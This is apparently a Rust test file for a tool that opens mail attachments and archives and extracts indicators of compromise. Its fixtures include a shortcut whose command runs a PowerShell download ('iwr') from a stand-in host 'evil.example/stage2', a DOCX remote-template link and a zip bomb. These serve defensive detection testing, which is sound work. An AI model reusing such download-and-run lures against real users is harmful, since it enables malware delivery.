//! Containers made by code, honest and hostile.

use std::io::{Cursor, Write as _};

use flate2::Compression;
use flate2::write::{GzEncoder, ZlibEncoder};
use proptest::prelude::*;
use zip::unstable::write::FileOptionsExt as _;
use zip::write::SimpleFileOptions;
use zip::{AesMode, ZipWriter};

use super::*;
use crate::cost;

mod mails;
mod odd;
mod passwords;

/// A URL that must be found wherever it is.
const URL: &str = "http://evil.example/stage2";

fn opened(name: &str, bytes: &[u8]) -> (Inside, Findings) {
    opened_with(name, bytes, &Options::default())
}

fn opened_with(name: &str, bytes: &[u8], options: &Options) -> (Inside, Findings) {
    let inside = open(name, bytes, options);
    let found = findings(&inside, options);
    (inside, found)
}

fn parts(inside: &Inside) -> Vec<String> {
    (0..inside.parts.len()).map(|at| inside.path(at)).collect()
}

fn ticked(found: &Findings) -> Vec<String> {
    found.items.iter().filter(|item| item.ticked).map(|item| item.indicator.value()).collect()
}

#[track_caller]
fn item(found: &Findings, value: &str) -> Found {
    let item = found.items.iter().find(|item| item.indicator.value() == value);
    item.unwrap_or_else(|| panic!("{value} is not among {:#?}", found.items)).clone()
}

fn sha256(bytes: &[u8]) -> String {
    Hashes::of(bytes).sha256
}

#[track_caller]
fn says(inside: &Inside, words: &[&str]) {
    let said = inside.remarks.iter().any(|remark| words.iter().all(|word| remark.contains(word)));
    assert!(said, "{words:?} in {:#?}", inside.remarks);
}

fn zipped(options: SimpleFileOptions, members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in members {
        zip.start_file(*name, options).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn plain(members: &[(&str, &[u8])]) -> Vec<u8> {
    zipped(SimpleFileOptions::default(), members)
}

fn locked(password: &'static str, members: &[(&str, &[u8])]) -> Vec<u8> {
    zipped(SimpleFileOptions::default().with_aes_encryption(AesMode::Aes256, password), members)
}

fn gzipped(bytes: &[u8]) -> Vec<u8> {
    let mut out = GzEncoder::new(Vec::new(), Compression::fast());
    out.write_all(bytes).unwrap();
    out.finish().unwrap()
}

fn tarred(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut tar = tar::Builder::new(Vec::new());
    for (name, bytes) in members {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_cksum();
        tar.append_data(&mut header, name, *bytes).unwrap();
    }
    tar.into_inner().unwrap()
}

fn base64(bytes: &[u8]) -> String {
    use ::base64::Engine as _;
    let packed = ::base64::engine::general_purpose::STANDARD.encode(bytes);
    packed.as_bytes().chunks(76).map(|line| std::str::from_utf8(line).unwrap().to_owned() + "\r\n").collect()
}

/// A mail to `soc@own.example` with such headers, a body, and an attachment.
fn mail(headers: &str, body: &str, name: &str, attachment: &[u8]) -> Vec<u8> {
    format!(
        "{headers}To: soc@own.example\r\nSubject: invoice\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n\
         This is a multi-part message.\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n--b1\r\n\
         Content-Type: application/octet-stream; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}--b1--\r\n",
        base64(attachment)
    )
    .into_bytes()
}

const FROM: &str = "From: Accounts <billing@sender.example>\r\n";

#[test]
fn an_attachment_is_hashed_and_listed_with_name_size_and_kind() {
    let (inside, found) = opened("m.eml", &mail(FROM, "see http://a.example/x", "invoice.exe", b"MZ\0\x01\x02"));
    assert_eq!(parts(&inside), ["", "invoice.exe"]);
    let part = &inside.parts[1];
    assert_eq!((part.role, part.kind.word, part.size), (Role::Attachment, "Windows program", 5));
    let hashes = part.hashes.as_ref().unwrap();
    assert_eq!((hashes.sha256.len(), hashes.sha1.len(), hashes.md5.len()), (64, 40, 32));
    let listed = item(&found, &sha256(b"MZ\0\x01\x02"));
    assert!(listed.ticked && listed.remark.contains("attachment invoice.exe (Windows program, 5"), "{listed:?}");
    assert_eq!(item(&found, "http://a.example/x").line, 11);
    assert!(inside.remarks.is_empty(), "{:?}", inside.remarks);
}

#[test]
fn archives_with_passwords_that_everybody_uses_are_opened_in_both_encryptions() {
    for password in ["infected", "malware"] {
        let member: &[(&str, &[u8])] = &[("readme.txt", URL.as_bytes()), ("a/b.exe", b"MZ\0")];
        let old = zipped(SimpleFileOptions::default().with_deprecated_encryption(password.as_bytes()).unwrap(), member);
        for archive in [locked(password, member), old] {
            let (inside, found) = opened("m.eml", &mail(FROM, "hello", "sample.zip", &archive));
            assert_eq!(parts(&inside), ["", "sample.zip", "sample.zip › readme.txt", "sample.zip › a/b.exe"]);
            let url = item(&found, URL);
            assert!(url.ticked && url.place == "sample.zip › readme.txt", "{url:?}");
            assert!(ticked(&found).contains(&sha256(b"MZ\0")));
        }
    }
}

#[test]
fn a_password_that_the_mail_tells_or_the_user_gives_opens_its_archive_and_any_other_is_said() {
    let archive = locked("S3cret!x", &[("a.js", URL.as_bytes())]);
    let (inside, found) = opened("m.eml", &mail(FROM, "The password is: S3cret!x.", "a.zip", &archive));
    assert!(ticked(&found).contains(&URL.to_owned()), "{inside:?}");
    let options = Options { passwords: vec!["S3cret!x".into()], ..Options::default() };
    assert!(ticked(&opened_with("a.zip", &archive, &options).1).contains(&URL.to_owned()));
    let (inside, found) = opened("a.zip", &archive);
    says(&inside, &["a.js in it needs a password", "--password"]);
    assert_eq!(ticked(&found), [sha256(&archive)], "the archive itself is listed all the same");
}

#[test]
fn archives_in_archives_are_opened_two_deep_and_then_hashed() {
    let deepest = plain(&[("deep.txt", URL.as_bytes())]);
    let second = plain(&[("third.zip", &deepest), ("seen.txt", b"http://seen.example/")]);
    let (inside, found) = opened("first.zip", &plain(&[("second.zip", &second)]));
    assert_eq!(parts(&inside), ["", "second.zip", "second.zip › third.zip", "second.zip › seen.txt"]);
    says(&inside, &["second.zip › third.zip", "more than 2 archives", "only hashed"]);
    assert!(ticked(&found).contains(&sha256(&deepest)) && ticked(&found).contains(&"http://seen.example/".to_owned()));
}

#[test]
fn gzip_tar_and_both_are_opened() {
    let tar = tarred(&[("a.txt", URL.as_bytes()), ("b.bin", b"\0\x01")]);
    for (name, archive) in [("a.tar", tar.clone()), ("a.tar.gz", gzipped(&tar))] {
        let (inside, found) = opened(name, &archive);
        assert_eq!(parts(&inside), ["", "a.txt", "b.bin"], "{name}");
        assert!(ticked(&found).contains(&URL.to_owned()));
    }
    let (inside, _) = opened("log.txt.gz", &gzipped(URL.as_bytes()));
    assert_eq!(parts(&inside), ["", "log.txt"]);
}

/// A 7-Zip archive of one stored file.
fn seven_zip(name: &str, content: &[u8]) -> Vec<u8> {
    let crc = |bytes: &[u8]| {
        let mut crc = flate2::Crc::new();
        crc.update(bytes);
        crc.sum()
    };
    let size = u8::try_from(content.len()).unwrap();
    let names: Vec<u8> = name.encode_utf16().chain([0]).flat_map(u16::to_le_bytes).collect();
    let mut header = vec![1, 4, 6, 0, 1, 9, size, 0, 7, 0x0b, 1, 0, 1, 1, 0, 0x0c, size, 0, 8, 0x0a, 1];
    header.extend(crc(content).to_le_bytes());
    header.extend([0, 0, 5, 1, 0x11, u8::try_from(names.len() + 1).unwrap(), 0]);
    header.extend(names);
    header.extend([0, 0]);
    let mut start = Vec::new();
    start.extend((content.len() as u64).to_le_bytes());
    start.extend((header.len() as u64).to_le_bytes());
    start.extend(crc(&header).to_le_bytes());
    let mut file = b"7z\xbc\xaf\x27\x1c\0\x04".to_vec();
    file.extend(crc(&start).to_le_bytes());
    [file, start, content.to_vec(), header].concat()
}

#[test]
fn seven_zip_is_opened_and_a_broken_one_is_a_sentence() {
    let archive = seven_zip("a.txt", URL.as_bytes());
    let (inside, found) = opened("a.7z", &archive);
    assert_eq!(parts(&inside), ["", "a.txt"], "{:?}", inside.remarks);
    assert!(ticked(&found).contains(&URL.to_owned()));
    let (inside, _) = opened("a.7z", &archive[..archive.len() - 5]);
    assert!(!inside.remarks.is_empty());
}

#[test]
fn bombs_are_left_alone_with_a_sentence_and_the_rest_is_read() {
    let zeros = vec![0; 32 << 20];
    let archive = plain(&[("bomb.bin", &zeros), ("seen.txt", URL.as_bytes())]);
    let (inside, found) = opened("a.zip", &archive);
    says(&inside, &["bomb.bin", "200 times its size", "left alone"]);
    assert_eq!(parts(&inside), ["", "seen.txt"]);
    assert!(ticked(&found).contains(&URL.to_owned()));
    let (inside, _) = opened("a.gz", &gzipped(&zeros));
    says(&inside, &["200 times"]);
}

#[test]
fn an_archive_that_lies_about_sizes_or_is_cut_is_a_remark() {
    let honest = plain(&[("a.txt", URL.as_bytes()), ("b.txt", b"http://b.example/")]);
    // The size of the first member, wherever it is written down.
    let size = u32::try_from(URL.len()).unwrap().to_le_bytes();
    let mut lying = honest.clone();
    for at in 0..lying.len() - 4 {
        if lying[at..at + 4] == size {
            lying[at..at + 4].copy_from_slice(&[0xff, 0xff, 0xff, 0x7f]);
        }
    }
    let (inside, found) = opened("a.zip", &lying);
    assert!(parts(&inside).contains(&"b.txt".to_owned()) || !inside.remarks.is_empty(), "{inside:?}");
    assert!(!found.items.is_empty());
    for cut in [1, honest.len() / 2, honest.len() - 3] {
        let (inside, _) = opened("a.zip", &honest[..cut]);
        assert!(cut < 4 || !inside.remarks.is_empty(), "{cut}");
    }
    let mut tar = tarred(&[("a.txt", URL.as_bytes())]);
    tar.truncate(512 + 10);
    let (inside, _) = opened("a.tar", &tar);
    assert!(!inside.remarks.is_empty(), "{inside:?}");
}

#[test]
fn more_members_than_the_limit_are_one_remark() {
    const MOST: usize = limits::MOST_PARTS;
    let names: Vec<String> = (0..MOST + 50).map(|number| format!("{number}")).collect();
    let members: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b"\0"[..])).collect();
    let (inside, _) = opened(
        "a.zip",
        &zipped(SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored), &members),
    );
    assert_eq!(inside.parts.len(), MOST);
    assert!(inside.remarks.len() <= 2, "{:?}", inside.remarks);
}

#[test]
fn a_password_that_a_mail_tells_is_tried_on_what_that_mail_brings_and_on_nothing_else() {
    let archive = locked("S3cret!x", &[("a.js", URL.as_bytes())]);
    let telling = String::from_utf8(mail(FROM, "The password is: S3cret!x.", "b.txt", b"x")).unwrap();
    let bringing = String::from_utf8(mail(FROM, "hello", "a.zip", &archive)).unwrap();
    let from = "From x Tue Nov 24 07:41:02 2026\n";
    let (inside, _) = opened("m.mbox", format!("{from}{telling}\n\n{from}{bringing}\n").as_bytes());
    says(&inside, &["a.zip", "needs a password"]);
    let both = String::from_utf8(mail(FROM, "The password is: S3cret!x.", "a.zip", &archive)).unwrap();
    let (_, found) = opened("m.mbox", format!("{from}{telling}\n\n{from}{both}\n").as_bytes());
    assert!(ticked(&found).contains(&URL.to_owned()));
}

#[test]
fn an_archive_whose_first_members_no_password_opens_is_left_with_one_sentence_and_its_open_members_are_read() {
    let names: Vec<String> = (0..50).map(|number| format!("{number}.bin")).collect();
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for name in &names {
        zip.start_file(name, SimpleFileOptions::default().with_aes_encryption(AesMode::Aes256, "other")).unwrap();
        zip.write_all(b"x").unwrap();
    }
    zip.start_file("open.txt", SimpleFileOptions::default()).unwrap();
    zip.write_all(URL.as_bytes()).unwrap();
    let (inside, found) = opened("a.zip", &zip.finish().unwrap().into_inner());
    assert!(ticked(&found).contains(&URL.to_owned()));
    assert_eq!(inside.remarks.len(), 9, "{:?}", inside.remarks);
    says(&inside, &["42 more of its members left alone", "--password gives one"]);
}

#[test]
fn passwords_are_tried_within_a_bound_however_many_archives_and_words_there_are() {
    let archive = locked("other", &[("a.bin", b"x"), ("b.bin", b"x"), ("c.bin", b"x")]);
    let words = (0..8).map(|word| format!("password: word{word}\r\n")).collect::<Vec<_>>().concat();
    let from = "From x Tue Nov 24 07:41:02 2026\n";
    let one = String::from_utf8(mail(FROM, &words, "a.zip", &archive)).unwrap();
    let many = format!("{from}{one}\n\n").repeat(24);
    let (inside, _) = opened("m.mbox", many.as_bytes());
    says(&inside, &["too many passwords were tried in vain", "--password gives one"]);
    let tried = inside.remarks.iter().filter(|remark| remark.contains("none of the")).count();
    assert_eq!(tried, 50, "{:?}", inside.remarks);
}

#[test]
fn documents_give_words_links_and_embedded_files() {
    let rels = format!(
        "<Relationships><Relationship Id=\"r1\" Type=\"x/attachedTemplate\" Target=\"{URL}\" TargetMode=\"External\"/></Relationships>"
    );
    let docx = plain(&[
        ("[Content_Types].xml", b"<Types/>"),
        (
            "word/document.xml",
            b"<w:document><w:p><w:r><w:t>http://words.exam</w:t></w:r><w:r><w:t>ple/x</w:t></w:r></w:p></w:document>",
        ),
        ("word/_rels/settings.xml.rels", rels.as_bytes()),
        ("word/embeddings/oleObject1.bin", b"\0\x01object"),
    ]);
    let (inside, found) = opened("a.docx", &docx);
    assert_eq!((inside.parts[0].kind.word, item(&found, URL).remark.as_str()), ("Word document", "attachedTemplate"));
    for value in ["http://words.example/x", &sha256(&docx), &sha256(b"\0\x01object")] {
        assert!(item(&found, value).ticked, "{value}");
    }
    let mut packed = ZlibEncoder::new(Vec::new(), Compression::fast());
    packed.write_all(format!("BT (see {URL}) Tj ET").as_bytes()).unwrap();
    let packed = packed.finish().unwrap();
    let pdf = [
        b"%PDF-1.7\n1 0 obj << /A << /S /URI /URI (http://link.example/x) >> >> endobj\n2 0 obj << /Filter /FlateDecode >>\nstream\n".to_vec(),
        packed,
        b"\nendstream endobj\n%%EOF".to_vec(),
    ]
    .concat();
    let rtf =
        format!("{{\\rtf1 {{\\field{{\\*\\fldinst HYPERLINK \"{URL}\"}}{{\\fldrslt x}}}} http://link.example/x }}");
    for (name, bytes) in [("a.pdf", pdf), ("a.rtf", rtf.into_bytes())] {
        let (_, found) = opened(name, &bytes);
        for value in [URL, "http://link.example/x", &sha256(&bytes)] {
            assert!(item(&found, value).ticked, "{name}: {value}");
        }
    }
    let link = super::document::shortcut::made(&format!("-c \"iwr {URL}\""));
    let (_, found) = opened("a.zip", &plain(&[("a.lnk", &link)]));
    assert!(item(&found, URL).ticked && item(&found, &sha256(&link)).remark.contains("a.lnk in a.zip"), "{found:?}");
}

#[test]
fn a_value_in_a_long_line_is_shown_with_what_stands_around_it() {
    let line = |at: usize| format!("word{at} http://h{at}.example/a ");
    let text: String = (0..400).map(line).collect();
    let (_, found) = opened("one line.txt", text.as_bytes());
    for at in [0, 1, 17, 399] {
        let context = item(&found, &format!("http://h{at}.example/a")).context;
        assert!(context.contains(line(at).trim()), "{at}: {context}");
    }
}

#[test]
fn a_plain_text_gives_what_extraction_gives_and_no_hash_of_its_own() {
    let text = "hxxp://a[.]example/x  dropper\ngateway 10.0.0.1\n";
    let (_, found) = opened("a.txt", text.as_bytes());
    let expected = crate::ioc::extract(text, &ExtractOptions::default()).items;
    let same: Vec<_> =
        found.items.iter().map(|item| (&item.indicator, item.line, item.remark.as_str(), item.ticked)).collect();
    assert_eq!(
        same,
        expected.iter().map(|item| (&item.indicator, item.line, &*item.remark, item.ticked)).collect::<Vec<_>>()
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    /// Containers with some of their bytes changed or cut off: everything ends, with parts and remarks.
    #[test]
    fn no_change_to_a_container_ends_it(
        which in 0_usize..9,
        changes in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..12),
        cut in proptest::option::of(any::<prop::sample::Index>()),
    ) {
        let zip = plain(&[("a.txt", URL.as_bytes()), ("b.bin", b"\0\x01")]);
        let mut bytes = match which {
            0 => zip,
            1 => gzipped(&tarred(&[("a.txt", URL.as_bytes())])),
            2 => tarred(&[("a.txt", URL.as_bytes())]),
            3 => seven_zip("a.txt", URL.as_bytes()),
            4 => mails::outlook(),
            5 => mail(FROM, URL, "a.zip", &zip),
            6 => plain(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<a>b</a>")]),
            7 => super::document::shortcut::made(URL),
            _ => format!("{{\\rtf1 {{\\*\\objdata 4d5a}} {URL}}}").into_bytes(),
        };
        for (at, byte) in changes {
            let at = at.index(bytes.len());
            bytes[at] = byte;
        }
        if let Some(cut) = cut {
            bytes.truncate(cut.index(bytes.len()));
        }
        let (inside, _) = opened("a", &bytes);
        prop_assert!(!inside.parts.is_empty());
    }
}
